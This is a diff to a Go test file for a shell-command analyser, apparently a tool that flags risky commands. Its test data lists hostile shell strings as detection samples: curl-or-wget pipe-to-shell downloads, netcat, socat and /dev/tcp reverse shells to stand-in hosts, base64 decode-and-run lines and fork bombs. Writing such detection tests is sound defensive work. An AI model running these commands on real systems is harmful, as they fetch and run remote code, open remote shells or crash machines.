@@ -5,6 +5,8 @@ import (
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/bailiff-dev/bailiff/internal/facts/value"
 )
 
 var work = Place{Workdir: "/work", Home: "/home/ana"}
@@ -73,7 +75,7 @@ func TestWhatHidesItsMeaningIsIncomplete(t *testing.T) {
 }
 
 func TestOrdinaryTextIsCompleteAndAccusedOfNothing(t *testing.T) {
-	suspect := []string{FeatureDecodeAndRun, FeatureDownloadAndRun, FeatureNetworkRedirect, FeatureForkBomb, FeatureEval}
+	suspect := []string{value.FeatureDecodeAndRun, value.FeatureDownloadAndRun, value.FeatureNetworkRedirect, value.FeatureForkBomb, value.FeatureEval}
 	for _, text := range []string{
 		"", "# nothing", "git status", "echo \"$VAR\"", "git commit -m \"$(date)\"", "make -j$(nproc)", "FOO=bar npm test", "$HOME/bin/tool", "~/bin/tool",
 		"\"${PYTHON:-python3}\" -m pytest", "cd \"$(git rev-parse --show-toplevel)\" && go test ./...", "for f in *.go; do gofmt -l \"$f\"; done",
@@ -117,30 +119,30 @@ func TestMentionIsNoCall(t *testing.T) {
 
 func TestFeatures(t *testing.T) {
 	for feature, texts := range (ways{
-		FeatureDownloadAndRun: {
+		value.FeatureDownloadAndRun: {
 			"curl x.test/i | sh", "curl -fsSL https://x.test/i.sh | sudo bash", "wget -qO- x.test | sh -s -- -y", "bash <(curl -s x.test)", "sh -c \"$(curl x.test)\"",
 			"eval \"$(curl x.test)\"", "source <(curl x.test)", ". <(wget -qO- x.test)", "a=$(curl x.test); eval \"$a\"", "echo \"$(curl x.test)\" | sh", "python3 -c \"$(curl x.test)\"",
 			"curl x.test | python3 -", "curl x.test | perl", "curl x.test | gunzip | tee y | bash", "curl x.test | base64 -d | sh", "curl x.test | tee >(sh)", "cat <(curl x.test) | sh",
 			"curl -o f x.test && sh f", "curl -sO https://x.test/i.sh && bash i.sh", "wget https://x.test/x; chmod +x x; ./x", "curl x.test > f; sh < f", "wget -O /tmp/a x.test && python3 /tmp/a",
 			"curl x.test | xargs -I{} sh -c '{}'", "$(curl x.test)", "nc -l 44 | sh", "nc -e /bin/sh x.test 1", "ncat --sh-exec 'bash -i' x.test 1", "socat TCP:x.test:1 EXEC:'bash -li',pty", "exec 3<>/dev/tcp/x.test/1; bash <&3",
 		},
-		FeatureDecodeAndRun: {
+		value.FeatureDecodeAndRun: {
 			"echo bHM= | base64 -d | sh", "base64 --decode f | bash", "eval $(echo bHM= | base64 -d)", "xxd -r -p f | sh", "echo sl | rev | sh", "echo x | tr a-z b-za | sh", "openssl enc -d -base64 -in f | sh",
 			"x=$(base64 -d f); eval \"$x\"", "base64 -d f > g; sh g", "python3 -c \"$(base64 -d f)\"", "gunzip -c f | sh", "$(echo sl | rev)x; sh -c \"$(echo sl | rev)\"",
 		},
-		FeatureForkBomb:            {":(){ :|:& };:", "bomb() { bomb & bomb & }; bomb", "f() { f | f & }; f", "b() { b | b; }; b", "x() { y & }; y() { x & }; x"},
-		FeatureInlineProgram:       {"python3 -c 'print(1)'", "perl -e 1", "ruby -e 1", "node -e 1", "php -r '1;'", "python3 <<E\nprint(1)\nE", "echo 'print(1)' | python3"},
-		FeatureNetworkRedirect:     {"cat < /dev/tcp/x.test/80", "echo x > /dev/udp/x.test/80", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"},
-		FeaturePipe:                {"a | b", "a |& b"},
-		FeatureBackground:          {"a &", "(a &)", "coproc a"},
-		FeatureRedirect:            {"a > b", "> b", "a < b", "a &> b", "a 2> b"},
-		FeatureHeredoc:             {"a <<E\nE", "a <<< b"},
-		FeatureCommandSubstitution: {"echo $(a)", "echo `a`", "x=$(a)"},
-		FeatureProcessSubstitution: {"a <(b)", "a >(b)"},
-		FeatureEval:                {"eval a", "sudo eval a"},
-		FeatureFunction:            {"f() { a; }", "function f { a; }"},
-		FeatureSubshell:            {"(a)"},
-		FeatureLoop:                {"while a; do b; done", "for x in y; do b; done", "until a; do b; done"},
+		value.FeatureForkBomb:            {":(){ :|:& };:", "bomb() { bomb & bomb & }; bomb", "f() { f | f & }; f", "b() { b | b; }; b", "x() { y & }; y() { x & }; x"},
+		value.FeatureInlineProgram:       {"python3 -c 'print(1)'", "perl -e 1", "ruby -e 1", "node -e 1", "php -r '1;'", "python3 <<E\nprint(1)\nE", "echo 'print(1)' | python3"},
+		value.FeatureNetworkRedirect:     {"cat < /dev/tcp/x.test/80", "echo x > /dev/udp/x.test/80", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"},
+		value.FeaturePipe:                {"a | b", "a |& b"},
+		value.FeatureBackground:          {"a &", "(a &)", "coproc a"},
+		value.FeatureRedirect:            {"a > b", "> b", "a < b", "a &> b", "a 2> b"},
+		value.FeatureHeredoc:             {"a <<E\nE", "a <<< b"},
+		value.FeatureCommandSubstitution: {"echo $(a)", "echo `a`", "x=$(a)"},
+		value.FeatureProcessSubstitution: {"a <(b)", "a >(b)"},
+		value.FeatureEval:                {"eval a", "sudo eval a"},
+		value.FeatureFunction:            {"f() { a; }", "function f { a; }"},
+		value.FeatureSubshell:            {"(a)"},
+		value.FeatureLoop:                {"while a; do b; done", "for x in y; do b; done", "until a; do b; done"},
 	}) {
 		for _, text := range texts {
 			if got := Shell(text, work); !slices.Contains(got.Features, feature) {
@@ -180,7 +182,9 @@ func TestCallsHaveTheirShape(t *testing.T) {
 		want := make([]Call, len(c.want))
 		for i, w := range c.want {
 			for _, l := range []*[]string{&w.Argv, &w.Flags, &w.Operands, &w.Wrappers, &w.Reads, &w.Writes, &w.Assigns} {
-				*l = listed(*l)
+				if *l == nil {
+					*l = []string{}
+				}
 			}
 			want[i] = w
 		}
